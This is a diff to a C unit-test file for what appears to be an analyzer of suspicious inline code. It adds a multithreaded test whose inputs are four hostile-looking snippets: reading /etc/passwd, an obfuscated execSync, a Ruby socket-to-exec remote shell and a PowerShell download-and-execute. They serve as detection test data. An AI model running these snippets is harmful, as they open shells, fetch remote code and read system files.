@@ -19,10 +19,10 @@
  *             eval socket parse_error limit limit_depth limit_count limit_work
  *   error     text the first parse error must contain
  */
+#include <pthread.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
-#include <time.h>
 
 #include "case_check.h"
 #include "shell/inline.h"
@@ -167,12 +167,7 @@ static void inline_case(pe_case_check *k, void *ctx)
     for (size_t f = 0; f < sizeof(result_flags) / sizeof(result_flags[0]); f++)
         if (r->flags & result_flags[f].bit)
             pe_sb_printf(&sb, "%s%s", sb.len ? " " : "", result_flags[f].name);
-    const char *want = pe_case_value(k->c, "flags");
-    char *w = pe_case_sorted_words(want ? want : ""), *g = pe_case_sorted_words(pe_sb_str(&sb));
-    if (strcmp(w, g) != 0)
-        pe_case_mismatch(k, "flags", w, g);
-    free(w);
-    free(g);
+    pe_case_expect_set(k, "flags", pe_sb_str(&sb));
     const char *err = pe_case_value(k->c, "error");
     if (err && (!r->error || !strstr(r->error, err)))
         pe_case_mismatch(k, "error", err, r->error ? r->error : "(none)");
@@ -575,12 +570,59 @@ START_TEST(api_tables_are_sorted)
 }
 END_TEST
 
-static double now_s(void)
+/* The same analyses from several threads at once give the same results:
+ * nothing is shared but the constant tables. */
+static const struct {
+    pe_lang lang;
+    const char *code;
+} thread_code[] = {
+    {PE_LANG_PYTHON, "import os as o; o.system('id'); open('/etc/passwd')"},
+    {PE_LANG_JS, "const {execSync: x} = require('child_process'); x(atob('aWQ='))"},
+    {PE_LANG_RUBY, "s = TCPSocket.new('10.0.0.1', 1); exec(s.gets)"},
+    {PE_LANG_POWERSHELL, "iex (New-Object Net.WebClient).DownloadString('http://x')"},
+};
+#define NTHREAD_CODE (sizeof(thread_code) / sizeof(thread_code[0]))
+
+static void *thread_main(void *arg)
 {
-    struct timespec ts;
-    clock_gettime(CLOCK_MONOTONIC, &ts);
-    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
+    const char **expected = arg;
+    for (int it = 0; it < 300; it++)
+        for (size_t k = 0; k < NTHREAD_CODE; k++) {
+            pe_arena a = PE_ARENA_INIT;
+            pe_inline_result *r = NULL;
+            int bad = pe_inline_analyze(&r, thread_code[k].lang, thread_code[k].code,
+                                        strlen(thread_code[k].code), &a) != 0 ||
+                      r->nitems == 0 || strcmp(r->items[0].value.s, expected[k]) != 0;
+            pe_arena_free(&a);
+            if (bad)
+                return (void *)1;
+        }
+    return NULL;
 }
+
+START_TEST(pure_across_threads)
+{
+    pe_arena a = PE_ARENA_INIT;
+    const char *expected[NTHREAD_CODE];
+    for (size_t k = 0; k < NTHREAD_CODE; k++) {
+        pe_inline_result *r = NULL;
+        ck_assert_int_eq(pe_inline_analyze(&r, thread_code[k].lang, thread_code[k].code,
+                                           strlen(thread_code[k].code), &a),
+                         0);
+        ck_assert_uint_gt(r->nitems, 0);
+        expected[k] = r->items[0].value.s;
+    }
+    pthread_t t[4];
+    for (int i = 0; i < 4; i++)
+        ck_assert_int_eq(pthread_create(&t[i], NULL, thread_main, expected), 0);
+    for (int i = 0; i < 4; i++) {
+        void *ret = NULL;
+        pthread_join(t[i], &ret);
+        ck_assert_ptr_null(ret);
+    }
+    pe_arena_free(&a);
+}
+END_TEST
 
 /* A timing report, run only when PREMPTI_INLINE_BENCH is set (timings are
  * not asserted: the machine is shared). */
@@ -609,7 +651,7 @@ START_TEST(timing_report)
         size_t len = strlen(snippets[k].code);
         int iters = 100000, failed = 0;
         size_t arena_bytes = 0;
-        double t0 = now_s();
+        double t0 = pe_test_now();
         for (int i = 0; i < iters; i++) { /* a fresh arena per analysis */
             pe_arena a = PE_ARENA_INIT;
             pe_inline_result *r;
@@ -617,7 +659,7 @@ START_TEST(timing_report)
             arena_bytes = a.total;
             pe_arena_free(&a);
         }
-        double ns = (now_s() - t0) / iters * 1e9;
+        double ns = (pe_test_now() - t0) / iters * 1e9;
         ck_assert_int_eq(failed, 0);
         printf("inline analysis: %-10s %3zu bytes: %6.0f ns, arena %zu bytes\n",
                pe_lang_name(snippets[k].lang), len, ns, arena_bytes);
@@ -636,6 +678,7 @@ int main(void)
     tcase_add_test(tc, limits_are_reported);
     tcase_add_test(tc, api_edges);
     tcase_add_test(tc, api_tables_are_sorted);
+    tcase_add_test(tc, pure_across_threads);
     tcase_add_test(tc, timing_report);
     tcase_set_timeout(tc, 300);
     suite_add_tcase(s, tc);
